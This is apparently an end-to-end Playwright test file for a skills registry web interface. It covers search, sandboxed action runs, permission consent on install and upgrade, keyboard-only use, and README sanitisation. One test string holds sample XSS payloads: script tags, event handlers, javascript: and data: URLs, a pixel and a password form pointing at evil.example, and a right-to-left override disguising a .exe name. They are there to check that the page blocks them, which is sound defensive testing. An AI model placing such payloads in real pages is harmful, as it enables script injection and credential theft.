"""Finding, reading, consenting, trying and removing skills."""

import re
import time
from pathlib import Path
from uuid import uuid4

from playwright.async_api import Page, expect
from tests.e2e.web.axe import objections
from tests.e2e.web.conftest import LIGHT, Look, OpenPage, Picture
from tests.e2e.web.site import Site

from raptorflow.samples.made_data import campaigns_csv

SETTLE_SECONDS = 30.0
PING = "import json; print(json.dumps({'answer': 'pong'}))"


def skill_files(
    name: str,
    version: str,
    permissions: str = "",
    readme: str = "# Report\n\nCall the action, then say what stands out.",
) -> dict[str, str]:
    return {
        "SKILL.md": f"---\nname: {name}\ndescription: Writes a report each week.\n---\n{readme}\n",
        "skill.toml": f'schema = 1\n[skill]\nversion = "{version}"\n{permissions}\n'
        '[actions.ping]\ndescription = "Answer."\ncommand = ["python", "scripts/ping.py"]\n'
        'input = "schemas/input.json"\n',
        "schemas/input.json": '{"type": "object", "properties": {}}',
        "scripts/ping.py": PING,
    }


async def test_search_as_one_types(open_page: OpenPage, picture: Picture) -> None:
    page = await open_page("/skills")
    await page.get_by_role("searchbox").press_sequentially("analyt")
    await expect(page).to_have_url(re.compile("query=analyt"))
    await expect(page.get_by_role("link", name=re.compile("analytics")).first).to_be_visible()
    await page.keyboard.press("ArrowDown")
    await page.keyboard.press("Enter")
    await expect(page).to_have_url(re.compile("/skills/raptorflow/analytics"))
    await expect(page.get_by_role("tabpanel").get_by_role("heading").first).to_be_visible()
    await picture(page, "skill")
    await page.get_by_role("tab", name="Files").click()
    await page.get_by_text("skill.toml").first.click()
    await expect(page.get_by_text("[skill]").first).to_be_visible()
    await page.get_by_role("tab", name="Versions").click()
    await expect(page.get_by_text(re.compile(r"^1\.\d+\.\d+$")).first).to_be_visible()


async def test_an_action_is_tried_in_the_sandbox(open_page: OpenPage, tmp_path: Path) -> None:
    csv = tmp_path / "campaigns.csv"
    csv.write_bytes(campaigns_csv())
    page = await open_page("/skills/raptorflow/analytics?tab=actions")
    await page.get_by_role("button", name="Try it").first.click()
    form = page.get_by_role("form", name="Try compare")
    await form.locator("input[type=file]").set_input_files(csv)
    await expect(form.get_by_text("campaigns.csv").first).to_be_visible()
    assert await objections(page) == []
    await form.get_by_role("button", name="Run").click()
    outcome = page.get_by_label(re.compile("What came of"))
    await expect(outcome.get_by_role("status").first).to_have_text("Succeeded")
    await expect(outcome.get_by_role("img", name="Picture chart.png")).to_be_visible()
    await outcome.get_by_role("link", name="Look at this run").click()
    await expect(page.get_by_role("heading", name="Steps")).to_be_visible()
    await expect(page.get_by_text("Succeeded").first).to_be_visible()


async def test_consent_grants_exactly_what_is_shown_and_an_upgrade_asks_for_the_difference(
    site: Site, open_page: OpenPage, picture: Picture, look: Look
) -> None:
    name = "weekly-report" if look == LIGHT else f"weekly-{uuid4().hex[:8]}"
    network = '[permissions]\nnetwork = ["api.example.com:443"]'
    await site.publish(name, skill_files(name, "1.0.0", network))
    namespace = await namespace_of(site)
    page = await open_page(f"/skills/{namespace}/{name}")
    await page.get_by_role("button", name=re.compile("^Install")).click()
    dialog = page.get_by_role("dialog")
    await expect(dialog.get_by_text("Connect to api.example.com on port 443")).to_be_visible()
    await dialog.get_by_role("button", name="Allow and install").click()
    await expect(page.get_by_text("Version 1.0.0 is installed and pinned.")).to_be_visible()
    assert await granted(site, name) == ("1.0.0", ["api.example.com:443"])

    more = '[permissions]\nnetwork = ["api.example.com:443", "files.example.com:443"]'
    await site.publish(name, skill_files(name, "1.1.0", more))
    await page.reload()
    await expect(page.get_by_text("Version 1.0.0 is installed.").first).to_be_visible()
    assert await granted(site, name) == ("1.0.0", ["api.example.com:443"])
    await page.get_by_role("button", name="Upgrade to 1.1.0").click()
    await expect(dialog.get_by_text("asks for more than was granted before")).to_be_visible()
    asked = dialog.get_by_role("listitem").filter(has_text="files.example.com")
    await expect(asked.last).to_contain_text("New")
    await expect(page.get_by_role("status", name="Loading", include_hidden=True)).to_have_count(0)
    await picture(page, "consent")
    assert await objections(page) == []
    await dialog.get_by_role("button", name="Cancel").click()
    assert await granted(site, name) == ("1.0.0", ["api.example.com:443"])
    await page.get_by_role("button", name="Upgrade to 1.1.0").click()
    await dialog.get_by_role("button", name="Allow and move to 1.1.0").click()
    await expect(page.get_by_text("Version 1.1.0 is installed and pinned.")).to_be_visible()
    assert await granted(site, name) == ("1.1.0", ["api.example.com:443", "files.example.com:443"])

    await page.get_by_role("button", name="Uninstall").click()
    await page.get_by_role("alertdialog").get_by_role("button", name="Uninstall").click()
    await expect(page.get_by_text("Not installed.")).to_be_visible()


async def test_the_same_by_keyboard_alone(site: Site, open_page: OpenPage, look: Look) -> None:
    name = f"k{uuid4().hex[:10]}"
    await site.publish(name, skill_files(name, "1.0.0"))
    page = await open_page("/skills")
    await expect(page.get_by_role("searchbox")).to_be_visible()
    await tab_to(page, "Search skills")
    await page.keyboard.type(name)
    await expect(page.get_by_text(re.compile(f"skills? for “{name}”"))).to_be_visible()
    await page.keyboard.press("ArrowDown")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("heading", level=1, name=name)).to_be_visible()
    await tab_to(page, "Install")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("dialog")).to_be_visible()
    await tab_to(page, "Allow and install")
    await page.keyboard.press("Enter")
    await expect(page.get_by_text("Version 1.0.0 is installed and pinned.")).to_be_visible()
    await tab_to(page, "Readme")
    await page.keyboard.press("ArrowRight")
    await tab_to(page, "Try it")
    await page.keyboard.press("Enter")
    await tab_to(page, "Run")
    await page.keyboard.press("Enter")
    outcome = page.get_by_label(re.compile("What came of"))
    await expect(outcome.get_by_role("status").first).to_have_text("Succeeded")
    if look.phone:
        await tab_to(page, "Menu")
        await page.keyboard.press("Enter")
    await tab_to(page, "Chat")
    await page.keyboard.press("Enter")
    await expect(page.get_by_label("Your message")).to_be_focused()
    await page.keyboard.type("zebra")
    await page.keyboard.press("Enter")
    await expect(page).to_have_url(re.compile(r"/chat/[0-9a-f-]{36}$"))


HOSTILE = """
<script>window.harm = "script"</script>

<img src="x" onerror="window.harm = 'onerror'">

<svg onload="window.harm = 'svg'"><style>* { display: none }</style></svg>

<iframe src="javascript:parent.harm = 'iframe'"></iframe>

[a link](javascript:window.harm='link') [data](data:text/html,<script>window.harm='data'</script>)

![outside](https://evil.example/pixel.png)

<form action="https://evil.example/"><input name="password"></form>

[ok](https://example.com/) \u202egnp.exe\u202c
"""


async def test_nothing_of_a_hostile_readme_acts_or_loads(site: Site, open_page: OpenPage) -> None:
    name = f"harm-{uuid4().hex[:8]}"
    await site.publish(name, skill_files(name, "1.0.0", readme=HOSTILE))
    page = await open_page("/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await page.goto(f"/skills/{await namespace_of(site)}/{name}")
    await expect(page.get_by_role("link", name="ok")).to_be_visible()
    for link in await page.get_by_role("tabpanel").get_by_role("link").all():
        assert re.match(r"https?:|mailto:|/|#", await link.get_attribute("href") or "/")
        await link.dispatch_event("mouseover")
    assert await page.evaluate("window.harm") is None
    assert await page.locator("iframe, form[action], [onerror], [onload]").count() == 0
    assert [url for url in asked if not url.startswith(site.url)] == []


async def namespace_of(site: Site) -> str:
    me = (await site.admin.get("/api/v1/accounts/me")).json()
    ids = {organisation["id"]: organisation["slug"] for organisation in me["organisations"]}
    return ids[me["organisation_id"]]


async def granted(site: Site, name: str) -> tuple[str, list[str]]:
    """The installed version, and the network that was granted."""
    rows = (await site.admin.get("/api/v1/registry/installations")).json()
    row = next(row for row in rows if row["name"] == name)
    return row["version"], row["granted"]["network"]


async def tab_to(page: Page, name: str) -> None:
    """Press Tab until what has the focus is called so; round and round, as it may still be on its way."""
    deadline = time.monotonic() + SETTLE_SECONDS
    while time.monotonic() < deadline:
        await page.keyboard.press("Tab")
        called: str = await page.evaluate(
            """() => {
                const on = document.activeElement;
                const label = on?.labels?.[0]?.textContent ?? "";
                return (on?.getAttribute("aria-label") ?? (label || on?.textContent) ?? "").trim();
            }"""
        )
        if re.match(rf"{re.escape(name)}\b", called):
            return
    raise AssertionError(f"no Tab led to {name!r}")
